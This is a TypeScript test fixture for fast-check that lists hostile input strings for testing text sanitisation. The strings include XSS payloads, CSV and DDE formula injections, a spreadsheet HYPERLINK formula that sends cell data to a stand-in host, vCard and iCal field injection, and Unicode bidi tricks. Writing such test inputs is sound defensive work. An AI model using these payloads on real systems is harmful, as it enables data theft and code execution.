import fc from 'fast-check';

/** Texts that were made to do harm, each in its own way. */
export const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '![a picture](https://evil.example/x.png)',
  '[click](javascript:alert(1))',
  '[ref]: https://evil.example',
  'https://evil.example/?a=1 and www.evil.example',
  'write to ada@evil.example, xmpp:ada@evil.example',
  '=HYPERLINK("https://evil.example/?"&A1,"look")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '"=1+1"',
  'Baker;=1+1',
  'Baker;"=1+1',
  "'=already",
  '＝1+1',
  'first\n=second\r\n+third',
  '# heading\n---\n===\n* list\n1. one\n    code\n```\nfence\n> quote\n| a | b |\n|---|---|',
  '~~~\n$$x$$ ==mark== %%gone%% [[link]] #tag ^foot {x}',
  'Ada\r\nEND:VCARD\r\nBEGIN:VCARD\r\nTEL:1',
  'Ada\nBEGIN:VALARM\nACTION:AUDIO',
  'a\\;b,c:d"e',
  '\u{202E}gnp.exe',
  '\u{2066}hidden\u{2069}',
  'half \uD800 and \uDC00 here',
  'nul \0 bell \u0007 esc \u001B[31m del \u007F',
  'שלום \u{200F}עולם',
  'line\u{2028}separator\u{2029}paragraph',
  '  ',
  '',
];

/** A text of a megabyte, with an accent at every fold. */
export const HUGE = `${'é漢🎈 '.repeat(2 ** 17)}`;

/** Any text: hostile, random, or a mixture of both. */
export const anyText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ unit: 'binary' }),
  fc.string({ unit: fc.constantFrom(..."=+-@\t\r\n;,\"' ab'=\u{202E}\uD800\u{2028}") }),
  fc
    .array(fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: 'grapheme' })), { maxLength: 4 })
    .map(parts => parts.join(' ')),
);
